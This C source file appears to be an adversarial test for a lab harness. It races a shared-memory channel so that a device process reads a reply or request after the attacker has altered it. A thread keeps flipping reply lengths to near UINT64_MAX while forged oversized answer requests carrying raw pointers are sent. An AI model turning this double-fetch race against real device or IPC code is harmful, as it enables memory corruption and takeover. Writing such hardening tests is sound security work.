/* Tries to have the device process read its own reply, or the question that it asks, after the attacker has changed
 * them. Gains a wrong size or address in the device process. */
#include "parts/wire.h"

static w_channel *channel;
static volatile bool over;

static void *flip(void *user)
{
    for (unsigned i = 0; !over; i++) {
        w_now();
        channel->reply.length = UINT64_MAX - i % 64;
        channel->reply.number = i;
        memset(channel->reply.bytes, (int)i, 64);
    }
    return user;
}

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    pthread_t thread;
    lab_array *array;
    static float host[70000];
    channel = w_own();
    if (!channel || lab_array_empty(&array, LAB_FLOAT32, LAB_SHAPE(70000))) return LAB_SUCCESS;
    w_channel *mine = channel;
    if (pthread_create(&thread, NULL, flip, NULL)) return LAB_SUCCESS;
    const uint64_t copy[] = {(uint64_t)(uintptr_t)array, (uint64_t)(uintptr_t)host};
    for (int i = 0; i < 300; i++) {
        w_send(mine, CALL_NUMBER(lab_array_set), copy, sizeof copy);
        for (int asked = 0; asked < 4 && w_await(mine, 20); asked++) {
            mine->request.kind = W_ANSWER;
            mine->request.length = 16 + 1000;
            mine->request.bytes[8] = 1;
            w_pass(mine);
        }
    }
    over = true;
    pthread_join(thread, NULL);
    return LAB_SUCCESS;
}
